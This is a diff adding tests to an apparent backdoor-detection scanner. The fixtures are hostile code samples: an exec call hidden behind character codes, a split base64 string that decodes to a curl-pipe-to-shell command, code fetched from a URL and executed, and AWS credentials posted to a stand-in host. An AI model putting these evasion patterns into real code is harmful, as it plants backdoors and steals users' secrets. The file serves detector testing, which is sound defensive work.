@@ -986,3 +986,49 @@ test('a script fetched by curl run as a program and then given to a shell is a d
   ].join('\n');
   assert.ok(rules('setup.py', py).includes('backdoor.download-exec:4'), rules('setup.py', py).join());
 });
+
+// Session 20's mechanisms, attacked the way a planter would get round them.
+test('a runner spelled in character codes over several lines, with comments after items, is still found', () => {
+  const text = [
+    'const T = [',
+    '  101, 120, 101, 99, // e x e c',
+    '  83, 121, 110, 99,',
+    '];',
+    'const k = (c) => String.fromCharCode(...c);',
+    "require('child_process')[k(T)]('id');",
+    '',
+  ].join('\n');
+  assert.ok(rules('a.js', text).includes('backdoor.decoded-load:1'), rules('a.js', text).join());
+});
+
+test('a command in base64 cut into pieces put together, or without its padding, is still found', () => {
+  const cut = 'STEP = "Y3VybCAtcyBodHRw" + "Oi8vMTkyLjAuMi43L3MgfCBzaA=="\nimport os\nos.system("true")\n';
+  assert.ok(rules('a.py', cut).includes('backdoor.decoded-load:1'), rules('a.py', cut).join());
+  const bare = "STEP = 'Y3VybCAtcyBodHRwOi8vMTkyLjAuMi43L3MgfCBzaA'\nimport os\nos.system('true')\n";
+  assert.ok(rules('b.py', bare).includes('backdoor.decoded-load:1'), rules('b.py', bare).join());
+});
+
+test('code run from a URL kept under a name is found; the same name fetched and parsed is not', () => {
+  const run = 'import urllib.request as u\nPATCH = "https://cdn.example.test/p.py"\nexec(u.urlopen(PATCH).read())\n';
+  assert.ok(rules('a.py', run).includes('backdoor.download-exec:3'), rules('a.py', run).join());
+  const parse =
+    'import json, urllib.request as u\nCFG = "https://cdn.example.test/c.json"\ncfg = json.loads(u.urlopen(CFG).read())\n';
+  assert.deepEqual(rules('b.py', parse), []);
+});
+
+test('a credential file sent to a host kept in a constant far below the read is found at both ends', () => {
+  const filler = Array.from({ length: 40 }, (_, i) => `def step_${i}(x):\n    return x + ${i}\n`).join('');
+  const text = [
+    'import os, requests',
+    'def bundle():',
+    '    return open(os.path.expanduser("~/.aws/credentials")).read()',
+    filler,
+    'SINK = "https://crash.collector.test/upload"',
+    'def ship():',
+    '    requests.post(SINK, data=bundle())',
+    '',
+  ].join('\n');
+  // (the flow engine follows bundle() to the post; the shape of credential files near a host, within 80 lines)
+  const found = rules('c.py', text).filter((r) => /credential-exfil|secret-to-host/.test(r));
+  assert.ok(found.some((r) => r.endsWith(':3')) && found.length >= 2, rules('c.py', text).join());
+});
